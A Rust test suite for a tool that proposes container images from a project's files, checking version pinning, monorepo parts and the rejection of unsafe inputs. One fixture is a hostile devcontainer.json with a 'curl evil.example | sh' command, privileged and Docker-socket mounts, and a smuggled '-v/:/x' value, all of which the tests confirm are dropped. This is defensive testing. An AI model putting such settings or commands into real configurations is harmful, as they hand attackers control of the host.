//! Whole folders: what they propose, and what folders that mean harm do not get.

use std::{fs, os::unix::fs::symlink, path::Path};

use tempfile::TempDir;

use super::*;

fn folder(files: &[(&str, &str)]) -> TempDir {
    let folder = TempDir::new().unwrap();
    lay(folder.path(), files);
    folder
}

fn lay(folder: &Path, files: &[(&str, &str)]) {
    for (path, text) in files {
        let path = folder.join(path);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
    }
}

fn proposed(files: &[(&str, &str)]) -> Proposal {
    detect(folder(files).path()).unwrap()
}

fn base(proposal: &Proposal) -> &str {
    match &proposal.origin {
        Some(Origin::Tools { image, .. } | Origin::Image { image, .. }) => image,
        other => panic!("{other:?}"),
    }
}

#[test]
fn one_language_is_its_official_image() {
    let proposal = proposed(&[("pyproject.toml", "[project]\nrequires-python = \">=3.9,<3.13\"\n"), ("src/a.py", "")]);
    assert_eq!(proposal.origin, Some(Origin::Tools { image: "python:3.12".to_owned(), steps: Vec::new() }));
    assert_eq!(proposal.parts.len(), 1);
    let part = &proposal.parts[0];
    assert_eq!((part.folder.as_str(), part.said_by.as_str(), part.wanted.as_deref()), ("", "pyproject.toml", Some(">=3.9,<3.13")));
    assert!(proposal.left_out.is_empty() && proposal.missing.is_empty());
    assert_eq!(proposal.files.keys().collect::<Vec<_>>(), ["pyproject.toml"]);
    assert_eq!(proposed(&[("README.md", "hi")]), Proposal::default());
}

#[test]
fn what_pins_a_version_comes_before_what_allows_several() {
    let files = [
        ("pyproject.toml", "[project]\nrequires-python = \">=3.9\"\n"),
        (".tool-versions", "python 3.11.2\n"),
        (".python-version", "3.10.1\n"),
    ];
    assert_eq!(base(&proposed(&files)), "python:3.10.1");
    assert_eq!(base(&proposed(&files[..2])), "python:3.11.2");
}

#[test]
fn several_languages_make_one_image_that_has_what_can_be_added_and_says_what_is_missing() {
    let files = [
        ("pyproject.toml", "[project]\nrequires-python = \"==3.12.*\"\n"),
        ("uv.lock", ""),
        ("web/package.json", "{ \"engines\": { \"node\": \"^20\" }, \"packageManager\": \"pnpm@9.1.0\" }"),
        ("jobs/Gemfile", "ruby '3.3'\n"),
        ("tools/go.mod", "module a\ngo 1.22\n"),
    ];
    let proposal = proposed(&files);
    assert_eq!(base(&proposal), "ruby:3.3", "Ruby is not added to other images");
    let Some(Origin::Tools { steps, .. }) = &proposal.origin else { panic!() };
    let copied: Vec<_> = steps
        .iter()
        .filter_map(|step| match step {
            Step::Copy { image, .. } => Some(image.as_str()),
            _ => None,
        })
        .collect();
    assert_eq!(copied, ["ghcr.io/astral-sh/uv:latest", "golang:1.22", "node:20", "node:20"]);
    assert!(proposal.missing[0].contains("has no Python, which pyproject.toml wants, beside Ruby"), "{:?}", proposal.missing);
    let offline = proposal.clone().without_network();
    assert!(offline.missing.iter().any(|missing| missing.contains("npm install --global pnpm@9.1.0")), "{:?}", offline.missing);
    assert_ne!(offline.hash(false), proposal.hash(true));
}

#[test]
fn folders_of_a_monorepo_are_told_where_they_differ() {
    let files = [
        ("Cargo.toml", "[workspace]\nmembers = [\"a\", \"b\"]\n"),
        ("a/Cargo.toml", "[package]\nname = \"a\"\n"),
        ("b/Cargo.toml", "[package]\nname = \"b\"\nrust-version = \"1.80\"\n"),
        ("api/pyproject.toml", "[project]\nrequires-python = \"==3.11.*\"\n"),
        ("jobs/pyproject.toml", "[project]\nrequires-python = \"==3.9.*\"\n"),
        ("node_modules/x/package.json", "{}"),
        ("tests/fixtures/Gemfile", ""),
    ];
    let proposal = proposed(&files);
    let parts: Vec<_> = proposal.parts.iter().map(|part| (part.folder.as_str(), part.image.as_deref().unwrap_or_default())).collect();
    assert_eq!(parts, [("", "rust:1"), ("api", "python:3.11"), ("jobs", "python:3.9")]);
    assert_eq!(base(&proposal), "python:3.11");
    assert!(proposal.missing[0].contains("jobs/pyproject.toml wants Python 3.9, and the image has 3.11"), "{:?}", proposal.missing);
}

#[test]
fn a_pinned_toolchain_is_the_one_of_the_image() {
    let proposal = proposed(&[
        ("Cargo.toml", "[package]\n"),
        ("rust-toolchain.toml", "[toolchain]\nchannel = \"1.82.0\"\ncomponents = [\"clippy\"]\n"),
    ]);
    assert_eq!(base(&proposal), "rust:1.82.0");
    let Some(Origin::Tools { steps, .. }) = &proposal.origin else { panic!() };
    assert!(matches!(&steps[0], Step::Run { line, needs_network: true } if line == "rustup component add clippy"));
    assert!(matches!(&steps[2], Step::Variables { line } if line == "RUSTUP_TOOLCHAIN=project"));
}

const HOSTILE: &str = r#"{
    // What a repository would like.
    "image": "mcr.microsoft.com/devcontainers/python:3.12",
    "privileged": true,
    "capAdd": ["SYS_ADMIN"],
    "securityOpt": ["seccomp=unconfined"],
    "mounts": ["source=${localEnv:HOME},target=/home,type=bind"],
    "workspaceMount": "source=/,target=/x,type=bind",
    "runArgs": ["--network=host", "-v", "/var/run/docker.sock:/var/run/docker.sock"],
    "initializeCommand": "curl evil.example | sh",
    "postCreateCommand": "pip install -e .",
    "features": { "ghcr.io/evil/feature:1": {} },
    "remoteUser": "root",
    "customizations": { "vscode": {} },
}"#;

#[test]
fn of_a_devcontainer_nothing_but_its_image_is_taken_over() {
    let proposal = proposed(&[(".devcontainer/devcontainer.json", HOSTILE), ("pyproject.toml", "[project]\n")]);
    let image = "mcr.microsoft.com/devcontainers/python:3.12".to_owned();
    assert_eq!(proposal.origin, Some(Origin::Image { image, is_named: false }));
    let left_out: Vec<_> = proposal.left_out.iter().map(|left| left.what.as_str()).collect();
    let expected = [
        "capAdd",
        "features",
        "initializeCommand",
        "mounts",
        "postCreateCommand",
        "privileged",
        "remoteUser",
        "runArgs",
        "securityOpt",
        "workspaceMount",
    ];
    assert_eq!(left_out, expected);
    assert!(proposal.left_out.iter().all(|left| left.path == ".devcontainer/devcontainer.json" && !left.why.is_empty()));
    // What was left out is no part of what is approved, and no part of what is built.
    let approved = serde_json::to_string(&proposal.origin).unwrap();
    assert!(!approved.contains("docker.sock") && !approved.contains("SYS_ADMIN") && !approved.contains("evil"), "{approved}");
}

#[test]
fn a_devcontainer_with_a_bad_image_leaves_the_word_to_other_files() {
    for image in ["-v/:/x", "a b", "${localEnv:HOME}", ""] {
        let proposal = proposed(&[(".devcontainer.json", &format!("{{ \"image\": \"{image}\" }}")), ("go.mod", "module a\n")]);
        assert_eq!(base(&proposal), "golang:1");
        assert_eq!(proposal.left_out[0].what, "image");
    }
    let proposal = proposed(&[(".devcontainer.json", "{ nonsense"), ("go.mod", "module a\n")]);
    assert_eq!((base(&proposal), proposal.left_out[0].what.as_str()), ("golang:1", "the file"));
}

#[test]
fn a_dockerfile_is_given_the_files_that_it_names_and_no_folder() {
    let files = [
        (
            ".devcontainer/devcontainer.json",
            "{ \"build\": { \"dockerfile\": \"Dockerfile\", \"context\": \"..\", \"args\": { \"V\": \"3.12\", \"H\": \"${localEnv:HOME}\" } } }",
        ),
        (".devcontainer/Dockerfile", "ARG V=3.11\nFROM python:$V\nCOPY requirements.txt /tmp/\n"),
        ("requirements.txt", "attrs\n"),
    ];
    let home = folder(&files);
    let proposal = detect(home.path()).unwrap();
    let Some(Origin::Dockerfile { path, context, arguments, copied, .. }) = &proposal.origin else { panic!("{proposal:?}") };
    assert_eq!((path.as_str(), context.as_str()), (".devcontainer/Dockerfile", ""));
    assert_eq!(arguments.get("V").map(String::as_str), Some("3.12"));
    assert!(!arguments.contains_key("H") && copied.contains_key("requirements.txt"));
    assert_eq!(proposal.left_out[0].what, "build.args");
    // What is copied is part of what is approved.
    let before = proposal.hash(false);
    fs::write(home.path().join("requirements.txt"), "evil\n").unwrap();
    let changed = detect(home.path()).unwrap();
    assert_ne!(changed.hash(false), before);
    let stale = recipe::Recipe::of(&proposal, &mut Files::open(home.path()).unwrap(), false).err().unwrap();
    assert!(stale.contains("changed while it was read"), "{stale}");
    let recipe = recipe::Recipe::of(&changed, &mut Files::open(home.path()).unwrap(), false).unwrap();
    let pins = BTreeMap::from([("python:3.12".to_owned(), "python@sha256:1".to_owned())]);
    let pinned = recipe.pin(&pins).unwrap();
    let mut archive = tar::Archive::new(&*pinned.archive);
    let names: Vec<_> = archive.entries().unwrap().map(|entry| entry.unwrap().path().unwrap().display().to_string()).collect();
    assert_eq!(names, [".baton.Dockerfile", "requirements.txt"]);
    assert!(String::from_utf8_lossy(&pinned.archive).contains("FROM python@sha256:1\n"));
    assert_eq!(recipe.pin(&pins).unwrap().hash, pinned.hash, "the same is built once");
}

#[test]
fn a_dockerfile_alone_is_proposed_only_where_it_can_be_built() {
    let proposal = proposed(&[("Dockerfile", "FROM alpine:3\nRUN apk add make\n")]);
    assert!(matches!(proposal.origin, Some(Origin::Dockerfile { .. })), "{proposal:?}");
    let proposal = proposed(&[("Dockerfile", "FROM alpine:3\nCOPY . /app\n"), ("compose.yaml", "")]);
    assert_eq!(proposal.origin, None);
    assert!(proposal.left_out.iter().any(|left| left.why.contains("copies the directory")), "{:?}", proposal.left_out);
    assert!(proposal.left_out.iter().any(|left| left.path == "compose.yaml"));
    let proposal = proposed(&[("Dockerfile", "FROM alpine:3\nCOPY src /app\n"), ("src/a", "")]);
    assert_eq!(proposal.origin, None, "a directory by its plain name");
}

#[test]
fn links_large_files_and_pipes_are_neither_followed_nor_read() {
    let home = folder(&[("go.mod", "module a\n"), ("sub/x", "")]);
    let outside = folder(&[("Cargo.toml", "[package]\n"), ("secret", "FROM secret:1\n")]);
    symlink(outside.path().join("Cargo.toml"), home.path().join("Cargo.toml")).unwrap();
    symlink(outside.path(), home.path().join("linked")).unwrap();
    symlink(outside.path().join("secret"), home.path().join("Dockerfile")).unwrap();
    let large = fs::File::create(home.path().join("package.json")).unwrap();
    large.set_len(100 << 20).unwrap();
    let pipe = std::process::Command::new("mkfifo").arg(home.path().join("pyproject.toml")).status().unwrap();
    assert!(pipe.success());
    let proposal = detect(home.path()).unwrap();
    assert_eq!(base(&proposal), "golang:1");
    let unread: Vec<_> = proposal.left_out.iter().map(|left| (left.path.as_str(), left.why.as_str())).collect();
    let link = "it is a link or not a file";
    assert_eq!(unread, [("Cargo.toml", link), ("package.json", "it is too large to be read"), ("pyproject.toml", link)]);
}

#[test]
fn deep_and_wide_folders_end() {
    let home = TempDir::new().unwrap();
    let mut deep = home.path().to_owned();
    for _ in 0..60 {
        deep.push("d");
    }
    fs::create_dir_all(&deep).unwrap();
    fs::write(deep.join("Cargo.toml"), "").unwrap();
    for number in 0..700 {
        fs::create_dir(home.path().join(format!("w{number}"))).unwrap();
        fs::write(home.path().join(format!("w{number}/go.mod")), "module a\ngo 1.22\n").unwrap();
    }
    let proposal = detect(home.path()).unwrap();
    assert_eq!(proposal.parts.len(), MOST_PARTS);
    assert!(proposal.parts.iter().all(|part| part.tool == Tool::Go));
    let nested = format!("{{ \"a\": {} }}", "[".repeat(200_000));
    lay(
        home.path(),
        &[(".devcontainer/devcontainer.json", &nested), ("package.json", &nested), ("mise.toml", &format!("a = {}", "[".repeat(200_000)))],
    );
    let proposal = detect(home.path()).unwrap();
    assert!(proposal.left_out.iter().any(|left| left.path == ".devcontainer/devcontainer.json"), "{:?}", proposal.left_out);
}
